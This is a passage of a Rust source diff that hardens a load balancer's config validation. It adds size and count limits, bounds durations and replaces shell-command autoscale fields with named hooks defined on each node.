@@ -28,6 +28,82 @@ pub const MIN_SLOTS_PER_BACKEND: u64 = 10;
 pub const WEIGHT_RANGE: std::ops::RangeInclusive<u32> = 1..=1000;
 /// Ports every lbnode keeps for itself (gRPC, admin HTTP).
 pub const RESERVED_PORTS: [(u16, &str); 2] = [(7400, "lbnode gRPC"), (7401, "lbnode admin HTTP")];
+/// Points a `ring_hash` pool places per unit of weight (Ketama-style ring).
+pub const RING_POINTS_PER_WEIGHT: u64 = 160;
+/// Most points one `ring_hash` ring holds; beyond this, point counts are scaled down by weight.
+pub const RING_MAX_POINTS: u64 = 1 << 17;
+
+// ---------------------------------------------------------------------------------------------
+// Limits of a config document. Every node builds every pool's table from the committed config, so a
+// config is bounded as a whole: one apply must not be able to exhaust the memory of every node (and
+// crash-loop them from the log). Each limit is checked by `parse` / `RawConfig::validate` and reported
+// with the field and the limit. README ("Limits") lists them with their defaults.
+// ---------------------------------------------------------------------------------------------
+
+/// Largest config document accepted, in bytes (checked before parsing). The scale goals (1,000 pools
+/// of 10 backends, 100 pools of 100) take about 1.2 MB as TOML and 2 MB as JSON as `get config` shows
+/// them; the limit stays below the admin gRPC message limit (4 MiB), so that a larger document reaches
+/// this check and gets this answer.
+pub const MAX_CONFIG_BYTES: usize = 3 << 20;
+/// Most pools in one config.
+pub const MAX_POOLS: usize = 2_000;
+/// Most backends in one pool.
+pub const MAX_BACKENDS_PER_POOL: usize = 1_000;
+/// Most backends over all pools.
+pub const MAX_TOTAL_BACKENDS: usize = 20_000;
+/// Most listeners in one config.
+pub const MAX_LISTENERS: usize = 1_000;
+/// Most routes in one listener.
+pub const MAX_ROUTES_PER_LISTENER: usize = 2_000;
+/// Most routes over all listeners.
+pub const MAX_TOTAL_ROUTES: usize = 10_000;
+/// Most table slots over all pools: a `maglev` pool counts its `table_size` (4 bytes a slot), a
+/// `ring_hash` pool its ring points (12 bytes a point, at most [`RING_MAX_POINTS`]); other policies
+/// build no table. 2^26 slots (256 MiB of Maglev tables) admit 1,000 pools at the default table size.
+pub const MAX_TOTAL_TABLE_SLOTS: u64 = 1 << 26;
+/// Longest pool, listener and hook name (names use A-Z a-z 0-9 - _ .).
+pub const MAX_NAME_LEN: usize = 64;
+/// Longest health-check path and route `path_prefix`.
+pub const MAX_PATH_LEN: usize = 1_024;
+/// Longest route `host` (a DNS name is at most 253 bytes).
+pub const MAX_HOST_LEN: usize = 253;
+/// Longest header or cookie name (`hash_key = "header:NAME"`, `sticky_cookie`).
+pub const MAX_HEADER_NAME_LEN: usize = 128;
+/// Longest backend address as written (`[v6]:port` fits in 47).
+pub const MAX_ADDR_LEN: usize = 64;
+/// Health check `interval`: at least 100ms, at most this.
+pub const MAX_HEALTH_INTERVAL: Duration = Duration::from_secs(3_600);
+/// Smallest health check `interval`.
+pub const MIN_HEALTH_INTERVAL: Duration = Duration::from_millis(100);
+/// Most consecutive results for `rise` / `fall`, and the largest `quorum`.
+pub const MAX_HEALTH_COUNT: u32 = 100;
+/// Outlier `base_ejection` and `max_ejection`: at most this (and above zero).
+pub const MAX_EJECTION: Duration = Duration::from_secs(86_400);
+/// Most consecutive failures an outlier detector counts to (`consecutive_5xx`,
+/// `consecutive_connect_failures`; 0 disables).
+pub const MAX_OUTLIER_COUNT: u32 = 1_000;
+/// Autoscale `window`: at least 1s, at most this.
+pub const MAX_SCALE_WINDOW: Duration = Duration::from_secs(3_600);
+/// Smallest autoscale `window`.
+pub const MIN_SCALE_WINDOW: Duration = Duration::from_secs(1);
+/// Largest autoscale watermark (load per active backend).
+pub const MAX_WATERMARK: u32 = 1_000_000;
+/// Every listener timeout is at least this.
+pub const MIN_TIMEOUT: Duration = Duration::from_millis(1);
+/// Listener `connect` timeout: at most this.
+pub const MAX_CONNECT_TIMEOUT: Duration = Duration::from_secs(300);
+/// Listener `request_header` timeout: at most this.
+pub const MAX_REQUEST_HEADER_TIMEOUT: Duration = Duration::from_secs(3_600);
+/// Listener `idle` timeout: at most this (UDP flows expire after 120s at most anyway).
+pub const MAX_IDLE_TIMEOUT: Duration = Duration::from_secs(86_400);
+/// Listener `upstream_response` timeout: at most this.
+pub const MAX_UPSTREAM_RESPONSE_TIMEOUT: Duration = Duration::from_secs(86_400);
+/// The longest any duration of the config may be; the proxies clamp to it as a second line of defence
+/// (an `Instant` plus a few centuries overflows).
+pub const MAX_ANY_DURATION: Duration = Duration::from_secs(86_400);
+/// How many problems a rejection lists (the rest are counted); keeps the answer to a hostile document
+/// small.
+pub const MAX_LISTED_PROBLEMS: usize = 100;
 
 // ---------------------------------------------------------------------------------------------
 // Typed model
@@ -98,11 +174,17 @@ pub struct Autoscale {
     pub low_watermark: u32,
     #[serde(with = "humantime_serde")]
     pub window: Duration,
-    /// Run by the leader (through `sh -c`) after activating a standby; `LBFLEET_POOL` and
-    /// `LBFLEET_BACKEND` are set. Its exit status goes to the event log.
-    pub scale_out_cmd: Option<String>,
-    /// Run by the leader after deactivating a standby.
-    pub scale_in_cmd: Option<String>,
+    /// Name of a hook the leader runs after activating a standby. Hooks are defined in each node's
+    /// local config (`[hooks.NAME]`, an argv run without a shell, with `LBFLEET_POOL` and
+    /// `LBFLEET_BACKEND` set); the replicated config only names them, so applying a config cannot run
+    /// arbitrary commands. The hook's exit status goes to the event log.
+    ///
+    /// (This field takes the place, and the postcard encoding, of the retired `scale_out_cmd`: a command
+    /// text stored by an older release reads back as a hook name, and runs nothing unless a node defines
+    /// a hook of exactly that name.)
+    pub scale_out_hook: Option<String>,
+    /// Name of a hook the leader runs after deactivating a standby (takes the place of `scale_in_cmd`).
+    pub scale_in_hook: Option<String>,
 }
 
 /// One backend server of a pool.
@@ -390,6 +472,19 @@ pub struct Timeouts {
     pub upstream_response: Duration,
 }
 
+impl Timeouts {
+    /// Each timeout at most its bound ([`MAX_CONNECT_TIMEOUT`], …). Validation refuses larger ones; the
+    /// proxies use this as a second line of defence, since an `Instant` plus a huge duration panics.
+    pub fn clamped(self) -> Timeouts {
+        Timeouts {
+            connect: self.connect.min(MAX_CONNECT_TIMEOUT),
+            request_header: self.request_header.min(MAX_REQUEST_HEADER_TIMEOUT),
+            idle: self.idle.min(MAX_IDLE_TIMEOUT),
+            upstream_response: self.upstream_response.min(MAX_UPSTREAM_RESPONSE_TIMEOUT),
+        }
+    }
+}
+
 impl Default for Timeouts {
     fn default() -> Self {
         Timeouts {
@@ -397,6 +492,22 @@ impl Default for Timeouts {
             request_header: Duration::from_secs(10),
             idle: Duration::from_secs(60),
             upstream_response: Duration::from_secs(30),
+        }
+    }
+}
+
+impl Pool {
+    /// Slots of the table this pool's policy builds on every node: `table_size` for `maglev`, the ring
+    /// points for `ring_hash` (see [`RING_POINTS_PER_WEIGHT`]), none for the others. Bounded over all
+    /// pools by [`MAX_TOTAL_TABLE_SLOTS`].
+    pub fn table_slots(&self) -> u64 {
+        match self.policy {
+            Policy::Maglev => self.table_size,
+            Policy::RingHash => {
+                let weight: u64 = self.backend.iter().map(|b| u64::from(b.weight)).sum();
+                weight.saturating_mul(RING_POINTS_PER_WEIGHT).min(RING_MAX_POINTS)
+            }
+            _ => 0,
         }
     }
 }
@@ -463,8 +574,12 @@ pub struct RawScale {
     pub high_watermark: Option<i64>,
     pub low_watermark: Option<i64>,
     pub window: Option<String>,
-    pub scale_out_cmd: Option<String>,
-    pub scale_in_cmd: Option<String>,
+    pub scale_out_hook: Option<String>,
+    pub scale_in_hook: Option<String>,
+    /// Retired: read only to reject it with a message saying what to do instead.
+    pub scale_out_cmd: Option<serde::de::IgnoredAny>,
+    /// Retired, like `scale_out_cmd`.
+    pub scale_in_cmd: Option<serde::de::IgnoredAny>,
 }
 
 #[derive(Debug, Clone, Default, Deserialize)]
@@ -555,8 +670,11 @@ impl fmt::Display for ConfigErrors {
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
         let n = self.0.len();
         write!(f, "config rejected: {n} problem{}", if n == 1 { "" } else { "s" })?;
-        for e in &self.0 {
+        for e in self.0.iter().take(MAX_LISTED_PROBLEMS) {
             write!(f, "\n  - {e}")?;
+        }
+        if n > MAX_LISTED_PROBLEMS {
+            write!(f, "\n  - … and {} more", n - MAX_LISTED_PROBLEMS)?;
         }
         Ok(())
     }
@@ -580,8 +698,18 @@ impl std::str::FromStr for Format {
     }
 }
 
-/// Parse and validate a config.
+/// Parse and validate a config. A document above [`MAX_CONFIG_BYTES`] is refused before it is parsed.
 pub fn parse(text: &str, format: Format) -> Result<ClusterConfig, ConfigErrors> {
+    if text.len() > MAX_CONFIG_BYTES {
+        return Err(ConfigErrors(vec![ConfigError {
+            place: String::new(),
+            message: format!(
+                "the config is {} bytes, above the limit of {MAX_CONFIG_BYTES} bytes ({} MiB)",
+                text.len(),
+                MAX_CONFIG_BYTES >> 20
+            ),
+        }]));
+    }
     let raw: RawConfig = match format {
         Format::Toml => toml::from_str(text).map_err(|e| syntax_error("TOML", e.to_string()))?,
         Format::Json => serde_json::from_str(text).map_err(|e| syntax_error("JSON", e.to_string()))?,
@@ -604,16 +732,44 @@ impl Problems {
     }
 }
 
-fn duration(p: &mut Problems, place: &str, field: &str, v: &Option<String>, default: Duration) -> Duration {
-    match v {
-        None => default,
-        Some(s) => match humantime::parse_duration(s) {
-            Ok(d) => d,
-            Err(e) => {
-                p.push(place, format!("invalid {field} \"{s}\": {e}"));
-                default
-            }
-        },
+/// A duration field within `range`; `None` (and a problem naming the field and the bounds) when it
+/// does not parse or lies outside. An absent field is `default`.
+fn bounded_duration(
+    p: &mut Problems,
+    place: &str,
+    field: &str,
+    v: &Option<String>,
+    default: Duration,
+    range: std::ops::RangeInclusive<Duration>,
+) -> Option<Duration> {
+    let Some(text) = v else { return Some(default) };
+    let d = match humantime::parse_duration(text) {
+        Ok(d) => d,
+        Err(e) => {
+            p.push(place, format!("invalid {field} \"{}\": {e}", shown(text)));
+            return None;
+        }
+    };
+    if !range.contains(&d) {
+        p.push(
+            place,
+            format!(
+                "{field} {} out of range {}..={}",
+                shown(text),
+                humantime::format_duration(*range.start()),
+                humantime::format_duration(*range.end())
+            ),
+        );
+        return None;
+    }
+    Some(d)
+}
+
+/// `s` as quoted in a problem: at most 64 characters, so that a rejection stays small.
+fn shown(s: &str) -> String {
+    match s.char_indices().nth(64) {
+        None => s.to_string(),
+        Some((i, _)) => format!("{}…", &s[..i]),
     }
 }
 
@@ -621,8 +777,50 @@ fn is_token(s: &str) -> bool {
     !s.is_empty() && s.bytes().all(|b| b.is_ascii_alphanumeric() || b"!#$%&'*+-.^_`|~".contains(&b))
 }
 
-fn is_name(s: &str) -> bool {
-    !s.is_empty() && s.len() <= 64 && s.bytes().all(|b| b.is_ascii_alphanumeric() || b"-_.".contains(&b))
+/// Whether `s` is a valid pool, listener or hook name: 1 to [`MAX_NAME_LEN`] of A-Z a-z 0-9 - _ .
+pub fn is_name(s: &str) -> bool {
+    !s.is_empty()
+        && s.len() <= MAX_NAME_LEN
+        && s.bytes().all(|b| b.is_ascii_alphanumeric() || b"-_.".contains(&b))
+}
+
+/// Check that every hook a config names (`scale_out_hook`, `scale_in_hook`) is one of `known`, the
+/// hooks defined in the local config of `node`, the node that received the config. Pure: the caller
+/// passes the names in. One problem per unknown reference.
+pub fn check_hooks(
+    config: &ClusterConfig,
+    node: crate::NodeId,
+    known: &BTreeSet<String>,
+) -> Result<(), ConfigErrors> {
+    let mut p = Problems(Vec::new());
+    for pool in &config.pool {
+        let Some(scale) = &pool.scale else { continue };
+        for (field, hook) in
+            [("scale_out_hook", &scale.scale_out_hook), ("scale_in_hook", &scale.scale_in_hook)]
+        {
+            let Some(name) = hook else { continue };
+            if !known.contains(name) {
+                let defined = if known.is_empty() {
+                    "it defines no hooks".to_string()
+                } else {
+                    let names: Vec<&str> = known.iter().map(String::as_str).collect();
+                    format!("it defines {}", names.join(", "))
+                };
+                p.push(
+                    &format!("pool \"{}\" scale", pool.name),
+                    format!(
+                        "{field} \"{name}\" is not defined on node {node} ({defined}); add [hooks.{name}] to \
+                         the local config of every node (lbnode --config) and restart it"
+                    ),
+                );
+            }
+        }
+    }
+    if p.0.is_empty() {
+        Ok(())
+    } else {
+        Err(ConfigErrors(p.0))
+    }
 }
 
 /// Deterministic primality test (trial division; table sizes are at most ~2^24).
@@ -647,11 +845,35 @@ impl RawConfig {
     /// Validate and type the config, collecting every problem.
     pub fn validate(&self) -> Result<ClusterConfig, ConfigErrors> {
         let mut p = Problems(Vec::new());
+        let counts = [
+            (self.pool.len(), MAX_POOLS, "pools"),
+            (
+                self.pool.iter().map(|rp| rp.backend.len()).sum(),
+                MAX_TOTAL_BACKENDS,
+                "backends over all pools",
+            ),
+            (self.listener.len(), MAX_LISTENERS, "listeners"),
+            (
+                self.listener.iter().map(|rl| rl.route.len()).sum(),
+                MAX_TOTAL_ROUTES,
+                "routes over all listeners",
+            ),
+        ];
+        for (n, limit, what) in counts {
+            if n > limit {
+                p.push("", format!("{n} {what}, above the limit of {limit}"));
+            }
+        }
+        // Over a count limit, the rest is not looked at: the work spent on a hostile document stays
+        // bounded by the limits, not by its size.
+        if !p.0.is_empty() {
+            return Err(ConfigErrors(p.0));
+        }
         let mut pools = Vec::with_capacity(self.pool.len());
         let mut seen_pools = BTreeSet::new();
         for (i, rp) in self.pool.iter().enumerate() {
             let place = match &rp.name {
-                Some(n) => format!("pool \"{n}\""),
+                Some(n) => format!("pool \"{}\"", shown(n)),
                 None => format!("pool {}", i + 1),
             };
             if let Some(pool) = validate_pool(&mut p, &place, rp) {
@@ -662,12 +884,25 @@ impl RawConfig {
             }
         }
 
+        let slots: u64 = pools.iter().map(Pool::table_slots).sum();
+        if slots > MAX_TOTAL_TABLE_SLOTS {
+            p.push(
+                "",
+                format!(
+                    "{slots} table slots over all pools, above the limit of {MAX_TOTAL_TABLE_SLOTS} (a maglev \
+                     pool counts its table_size, a ring_hash pool its ring points: lower table_size)"
+                ),
+            );
+        }
+
+        let by_name: BTreeMap<&str, usize> =
+            pools.iter().enumerate().rev().map(|(i, pl)| (pl.name.as_str(), i)).collect();
         let mut listeners = Vec::with_capacity(self.listener.len());
         let mut seen_listeners = BTreeSet::new();
         let mut ports: BTreeMap<(&'static str, u16), String> = BTreeMap::new();
         for (i, rl) in self.listener.iter().enumerate() {
             let place = match &rl.name {
-                Some(n) => format!("listener \"{n}\""),
+                Some(n) => format!("listener \"{}\"", shown(n)),
                 None => format!("listener {}", i + 1),
             };
             let Some(l) = validate_listener(&mut p, &place, rl) else { continue };
@@ -697,9 +932,9 @@ impl RawConfig {
                 pool_refs.push((r.pool.clone(), format!("route {} pool", ri + 1)));
             }
             for (pool_name, what) in pool_refs {
-                match pools.iter().find(|pl: &&Pool| pl.name == pool_name) {
+                match by_name.get(pool_name.as_str()).map(|&i| &pools[i]) {
                     None if seen_pools.contains(&pool_name) => {}
-                    None => p.push(&place, format!("{what} \"{pool_name}\" does not exist")),
+                    None => p.push(&place, format!("{what} \"{}\" does not exist", shown(&pool_name))),
                     Some(pool) => {
                         if l.protocol != Protocol::Http && pool.hash_key.needs_http() {
                             p.push(
@@ -743,7 +978,10 @@ fn validate_pool(p: &mut Problems, place: &str, rp: &RawPool) -> Option<Pool> {
             String::new()
         }
         Some(n) if !is_name(n) => {
-            p.push(place, format!("invalid name \"{n}\": use 1 to 64 of A-Z a-z 0-9 - _ ."));
+            p.push(
+                place,
+                format!("invalid name \"{}\": use 1 to {MAX_NAME_LEN} of A-Z a-z 0-9 - _ .", shown(n)),
+            );
             n.clone()
         }
         Some(n) => n.clone(),
@@ -756,13 +994,31 @@ fn validate_pool(p: &mut Problems, place: &str, rp: &RawPool) -> Option<Pool> {
         }
     };
     let default_key = if policy.is_hash() { "source_ip" } else { "source_addr" };
-    let hash_key = match rp.hash_key.as_deref().unwrap_or(default_key).parse::<HashKey>() {
-        Ok(k) => k,
-        Err(e) => {
-            p.push(place, e);
-            HashKey::SourceIp
+    let hash_key_text = rp.hash_key.as_deref().unwrap_or(default_key);
+    let hash_key = if hash_key_text.len() > MAX_HEADER_NAME_LEN + "header:".len() {
+        p.push(
+            place,
+            format!(
+                "hash_key is {} bytes long; a header or cookie name is at most {MAX_HEADER_NAME_LEN}",
+                hash_key_text.len()
+            ),
+        );
+        HashKey::SourceIp
+    } else {
+        match hash_key_text.parse::<HashKey>() {
+            Ok(k) => k,
+            Err(e) => {
+                p.push(place, e);
+                HashKey::SourceIp
+            }
         }
     };
+    if rp.backend.len() > MAX_BACKENDS_PER_POOL {
+        p.push(
+            place,
+            format!("{} backends, above the limit of {MAX_BACKENDS_PER_POOL} per pool", rp.backend.len()),
+        );
+    }
     let table_size = rp.table_size.unwrap_or(DEFAULT_TABLE_SIZE);
     if !(MIN_TABLE_SIZE..=MAX_TABLE_SIZE).contains(&table_size) {
         p.push(place, format!("table_size {table_size} out of range {MIN_TABLE_SIZE}..={MAX_TABLE_SIZE}"));
@@ -779,7 +1035,12 @@ fn validate_pool(p: &mut Problems, place: &str, rp: &RawPool) -> Option<Pool> {
         );
     }
     if let Some(c) = &rp.sticky_cookie {
-        if !is_token(c) {
+        if c.len() > MAX_HEADER_NAME_LEN {
+            p.push(
+                place,
+                format!("sticky_cookie is {} bytes long, above the limit of {MAX_HEADER_NAME_LEN}", c.len()),
+            );
+        } else if !is_token(c) {
             p.push(place, format!("invalid sticky_cookie \"{c}\": must be an HTTP token"));
         }
     }
@@ -792,6 +1053,10 @@ fn validate_pool(p: &mut Problems, place: &str, rp: &RawPool) -> Option<Pool> {
         let addr = match rb.addr.as_deref() {
             None => {
                 p.push(&bplace, "missing addr");
+                None
+            }
+            Some(a) if a.len() > MAX_ADDR_LEN => {
+                p.push(&bplace, format!("addr is {} bytes long, above the limit of {MAX_ADDR_LEN}", a.len()));
                 None
             }
             Some(a) => match a.parse::<SocketAddr>() {
@@ -859,21 +1124,35 @@ fn validate_outlier(p: &mut Problems, pool_place: &str, ro: Option<&RawOutlier>)
             default
         }
     };
-    let consecutive_5xx = int("consecutive_5xx", ro.consecutive_5xx, d.consecutive_5xx, 0..=1000);
+    let counts = 0..=i64::from(MAX_OUTLIER_COUNT);
+    let consecutive_5xx = int("consecutive_5xx", ro.consecutive_5xx, d.consecutive_5xx, counts.clone());
     let consecutive_connect_failures = int(
         "consecutive_connect_failures",
         ro.consecutive_connect_failures,
         d.consecutive_connect_failures,
-        0..=1000,
+        counts,
     );
     let max_ejection_percent =
         int("max_ejection_percent", ro.max_ejection_percent, d.max_ejection_percent, 0..=100);
-    let before = p.0.len();
-    let base_ejection = duration(p, &place, "base_ejection", &ro.base_ejection, d.base_ejection);
-    let max_ejection = duration(p, &place, "max_ejection", &ro.max_ejection, d.max_ejection);
-    if p.0.len() == before && (base_ejection.is_zero() || max_ejection < base_ejection) {
-        p.push(&place, "base_ejection must be above zero and at most max_ejection");
+    let ejection = MIN_TIMEOUT..=MAX_EJECTION;
+    let base_ejection =
+        bounded_duration(p, &place, "base_ejection", &ro.base_ejection, d.base_ejection, ejection.clone());
+    let max_ejection =
+        bounded_duration(p, &place, "max_ejection", &ro.max_ejection, d.max_ejection, ejection);
+    if let (Some(base), Some(max)) = (base_ejection, max_ejection) {
+        if max < base {
+            p.push(
+                &place,
+                format!(
+                    "base_ejection {} must be at most max_ejection {}",
+                    humantime::format_duration(base),
+                    humantime::format_duration(max)
+                ),
+            );
+        }
     }
+    let base_ejection = base_ejection.unwrap_or(d.base_ejection);
+    let max_ejection = max_ejection.unwrap_or(d.max_ejection);
     OutlierDetection {
         consecutive_5xx,
         consecutive_connect_failures,
@@ -887,23 +1166,23 @@ fn validate_scale(p: &mut Problems, pool_place: &str, rs: &RawScale, backends: &
     let place = format!("{pool_place} scale");
     let primaries = backends.iter().filter(|b| !b.backup && !b.standby).count() as i64;
     let standbys = backends.iter().filter(|b| b.standby).count() as i64;
-    let mut need = |field: &str, v: Option<i64>| -> u32 {
+    let mut need = |field: &str, v: Option<i64>, max: u32| -> u32 {
         match v {
             None => {
                 p.push(&place, format!("missing {field}"));
                 0
             }
-            Some(v) if !(0..=1_000_000).contains(&v) => {
-                p.push(&place, format!("{field} {v} out of range 0..=1000000"));
+            Some(v) if !(0..=i64::from(max)).contains(&v) => {
+                p.push(&place, format!("{field} {v} out of range 0..={max}"));
                 0
             }
             Some(v) => v as u32,
         }
     };
-    let min_active = need("min_active", rs.min_active);
-    let max_active = need("max_active", rs.max_active);
-    let high_watermark = need("high_watermark", rs.high_watermark);
-    let low_watermark = need("low_watermark", rs.low_watermark);
+    let min_active = need("min_active", rs.min_active, MAX_BACKENDS_PER_POOL as u32);
+    let max_active = need("max_active", rs.max_active, MAX_BACKENDS_PER_POOL as u32);
+    let high_watermark = need("high_watermark", rs.high_watermark, MAX_WATERMARK);
+    let low_watermark = need("low_watermark", rs.low_watermark, MAX_WATERMARK);
     if standbys == 0 {
         p.push(&place, "the pool has no standby backend to scale with");
     }
@@ -925,24 +1204,48 @@ fn validate_scale(p: &mut Problems, pool_place: &str, rs: &RawScale, backends: &
             format!("low_watermark {low_watermark} must be below high_watermark {high_watermark}"),
         );
     }
-    let window = duration(p, &place, "window", &rs.window, Duration::from_secs(30));
-    if window < Duration::from_secs(1) {
-        p.push(&place, "window must be at least 1s");
-    }
-    for (field, cmd) in [("scale_out_cmd", &rs.scale_out_cmd), ("scale_in_cmd", &rs.scale_in_cmd)] {
-        if cmd.as_deref().is_some_and(|c| c.trim().is_empty()) {
-            p.push(&place, format!("{field} is empty"));
+    let default_window = Duration::from_secs(30);
+    let window = bounded_duration(
+        p,
+        &place,
+        "window",
+        &rs.window,
+        default_window,
+        MIN_SCALE_WINDOW..=MAX_SCALE_WINDOW,
+    )
+    .unwrap_or(default_window);
+    for (field, instead, cmd) in [
+        ("scale_out_cmd", "scale_out_hook", &rs.scale_out_cmd),
+        ("scale_in_cmd", "scale_in_hook", &rs.scale_in_cmd),
+    ] {
+        if cmd.is_some() {
+            p.push(
+                &place,
+                format!(
+                    "{field} is no longer accepted: the replicated config cannot carry commands. Define the \
+                     command on each node, in its local config (lbnode --config), as a named hook \
+                     ([hooks.NAME] with command = [\"/absolute/program\", \"arg\", ...]), and name it here \
+                     with {instead} = \"NAME\""
+                ),
+            );
         }
     }
-    Autoscale {
-        min_active,
-        max_active,
-        high_watermark,
-        low_watermark,
-        window,
-        scale_out_cmd: rs.scale_out_cmd.clone(),
-        scale_in_cmd: rs.scale_in_cmd.clone(),
-    }
+    let mut hook = |field: &str, v: &Option<String>| -> Option<String> {
+        let name = v.as_ref()?;
+        if !is_name(name) {
+            p.push(
+                &place,
+                format!(
+                    "invalid {field} \"{}\": a hook name is 1 to {MAX_NAME_LEN} of A-Z a-z 0-9 - _ .",
+                    shown(name)
+                ),
+            );
+        }
+        Some(name.clone())
+    };
+    let scale_out_hook = hook("scale_out_hook", &rs.scale_out_hook);
+    let scale_in_hook = hook("scale_in_hook", &rs.scale_in_hook);
+    Autoscale { min_active, max_active, high_watermark, low_watermark, window, scale_out_hook, scale_in_hook }
 }
 
 fn validate_health(p: &mut Problems, pool_place: &str, rh: Option<&RawHealth>) -> HealthCheck {
@@ -957,34 +1260,41 @@ fn validate_health(p: &mut Problems, pool_place: &str, rh: Option<&RawHealth>) -
         }
     };
     let path = rh.path.clone().unwrap_or(d.path.clone());
-    if !path.starts_with('/') || path.bytes().any(|b| b.is_ascii_whitespace() || b.is_ascii_control()) {
+    if path.len() > MAX_PATH_LEN {
+        p.push(&place, format!("path is {} bytes long, above the limit of {MAX_PATH_LEN}", path.len()));
+    } else if !path.starts_with('/') || path.bytes().any(|b| b.is_ascii_whitespace() || b.is_ascii_control())
+    {
         p.push(&place, format!("invalid path \"{path}\": must start with / and contain no spaces"));
     }
-    let before = p.0.len();
-    let interval = duration(p, &place, "interval", &rh.interval, d.interval);
-    let timeout = duration(p, &place, "timeout", &rh.timeout, d.timeout);
-    let durations_parsed = p.0.len() == before;
-    if interval < Duration::from_millis(100) {
-        p.push(
-            &place,
-            format!("interval {} is below the minimum of 100ms", humantime::format_duration(interval)),
-        );
-    }
+    let interval = bounded_duration(
+        p,
+        &place,
+        "interval",
+        &rh.interval,
+        d.interval,
+        MIN_HEALTH_INTERVAL..=MAX_HEALTH_INTERVAL,
+    );
+    let timeout =
+        bounded_duration(p, &place, "timeout", &rh.timeout, d.timeout, MIN_TIMEOUT..=MAX_HEALTH_INTERVAL);
     // Compare only durations the operator wrote correctly, so one typo is one error.
-    if durations_parsed && (timeout.is_zero() || timeout > interval) {
-        p.push(
-            &place,
-            format!(
-                "timeout {} must be above zero and at most the interval ({})",
-                humantime::format_duration(timeout),
-                humantime::format_duration(interval)
-            ),
-        );
+    if let (Some(interval), Some(timeout)) = (interval, timeout) {
+        if timeout > interval {
+            p.push(
+                &place,
+                format!(
+                    "timeout {} must be at most the interval ({})",
+                    humantime::format_duration(timeout),
+                    humantime::format_duration(interval)
+                ),
+            );
+        }
     }
+    let interval = interval.unwrap_or(d.interval);
+    let timeout = timeout.unwrap_or(d.timeout);
     let mut count = |field: &str, v: Option<i64>, default: u32| -> u32 {
         let v = v.unwrap_or(default as i64);
-        if !(1..=100).contains(&v) {
-            p.push(&place, format!("{field} {v} out of range 1..=100"));
+        if !(1..=i64::from(MAX_HEALTH_COUNT)).contains(&v) {
+            p.push(&place, format!("{field} {v} out of range 1..={MAX_HEALTH_COUNT}"));
             default
         } else {
             v as u32
@@ -1002,9 +1312,9 @@ fn validate_health(p: &mut Problems, pool_place: &str, rh: Option<&RawHealth>) -
     };
     let quorum = match rh.quorum {
         None => None,
-        Some(q) if (1..=100).contains(&q) => Some(q as u32),
+        Some(q) if (1..=i64::from(MAX_HEALTH_COUNT)).contains(&q) => Some(q as u32),
         Some(q) => {
-            p.push(&place, format!("quorum {q} out of range 1..=100"));
+            p.push(&place, format!("quorum {q} out of range 1..={MAX_HEALTH_COUNT}"));
             None
         }
     };
@@ -1018,7 +1328,10 @@ fn validate_listener(p: &mut Problems, place: &str, rl: &RawListener) -> Option<
             String::new()
         }
         Some(n) if !is_name(n) => {
-            p.push(place, format!("invalid name \"{n}\": use 1 to 64 of A-Z a-z 0-9 - _ ."));
+            p.push(
+                place,
+                format!("invalid name \"{}\": use 1 to {MAX_NAME_LEN} of A-Z a-z 0-9 - _ .", shown(n)),
+            );
             n.clone()
         }
         Some(n) => n.clone(),
@@ -1071,33 +1384,35 @@ fn validate_listener(p: &mut Problems, place: &str, rl: &RawListener) -> Option<
         None => d,
         Some(rt) => {
             let tplace = format!("{place} timeouts");
-            let t = Timeouts {
-                connect: duration(p, &tplace, "connect", &rt.connect, d.connect),
-                request_header: duration(p, &tplace, "request_header", &rt.request_header, d.request_header),
-                idle: duration(p, &tplace, "idle", &rt.idle, d.idle),
-                upstream_response: duration(
-                    p,
-                    &tplace,
+            let mut field = |name: &str, v: &Option<String>, default: Duration, max: Duration| {
+                bounded_duration(p, &tplace, name, v, default, MIN_TIMEOUT..=max).unwrap_or(default)
+            };
+            Timeouts {
+                connect: field("connect", &rt.connect, d.connect, MAX_CONNECT_TIMEOUT),
+                request_header: field(
+                    "request_header",
+                    &rt.request_header,
+                    d.request_header,
+                    MAX_REQUEST_HEADER_TIMEOUT,
+                ),
+                idle: field("idle", &rt.idle, d.idle, MAX_IDLE_TIMEOUT),
+                upstream_response: field(
                     "upstream_response",
                     &rt.upstream_response,
                     d.upstream_response,
+                    MAX_UPSTREAM_RESPONSE_TIMEOUT,
                 ),
-            };
-            for (field, v) in [
-                ("connect", t.connect),
-                ("request_header", t.request_header),
-                ("idle", t.idle),
-                ("upstream_response", t.upstream_response),
-            ] {
-                if v.is_zero() {
-                    p.push(&tplace, format!("{field} must be above zero"));
-                }
             }
-            t
         }
     };
     if !rl.route.is_empty() && protocol != Protocol::Http {
         p.push(place, "routes are only for http listeners");
+    }
+    if rl.route.len() > MAX_ROUTES_PER_LISTENER {
+        p.push(
+            place,
+            format!("{} routes, above the limit of {MAX_ROUTES_PER_LISTENER} per listener", rl.route.len()),
+        );
     }
     let mut routes = Vec::with_capacity(rl.route.len());
     for (ri, rr) in rl.route.iter().enumerate() {
@@ -1106,12 +1421,19 @@ fn validate_listener(p: &mut Problems, place: &str, rl: &RawListener) -> Option<
             p.push(&rplace, "a route needs host, path_prefix or both");
         }
         if let Some(pp) = &rr.path_prefix {
-            if !pp.starts_with('/') {
-                p.push(&rplace, format!("invalid path_prefix \"{pp}\": must start with /"));
+            if pp.len() > MAX_PATH_LEN {
+                p.push(
+                    &rplace,
+                    format!("path_prefix is {} bytes long, above the limit of {MAX_PATH_LEN}", pp.len()),
+                );
+            } else if !pp.starts_with('/') {
+                p.push(&rplace, format!("invalid path_prefix \"{}\": must start with /", shown(pp)));
             }
         }
         if let Some(h) = &rr.host {
-            if h.is_empty() || h.bytes().any(|b| b.is_ascii_whitespace() || b == b'/') {
+            if h.len() > MAX_HOST_LEN {
+                p.push(&rplace, format!("host is {} bytes long, above the limit of {MAX_HOST_LEN}", h.len()));
+            } else if h.is_empty() || h.bytes().any(|b| b.is_ascii_whitespace() || b == b'/') {
                 p.push(&rplace, format!("invalid host \"{h}\""));
             }
         }
@@ -1336,13 +1658,15 @@ name = "p"
   high_watermark = 20
   low_watermark = 5
   window = "5s"
-  scale_out_cmd = "echo out"
+  scale_out_hook = "add-web"
 "#;
         let c = parse(good, Format::Toml).unwrap();
         let p = &c.pool[0];
         assert_eq!(p.outlier.consecutive_5xx, 3);
         assert_eq!(p.outlier.consecutive_connect_failures, 5, "default");
         assert_eq!(p.scale.as_ref().unwrap().window, Duration::from_secs(5));
+        assert_eq!(p.scale.as_ref().unwrap().scale_out_hook.as_deref(), Some("add-web"));
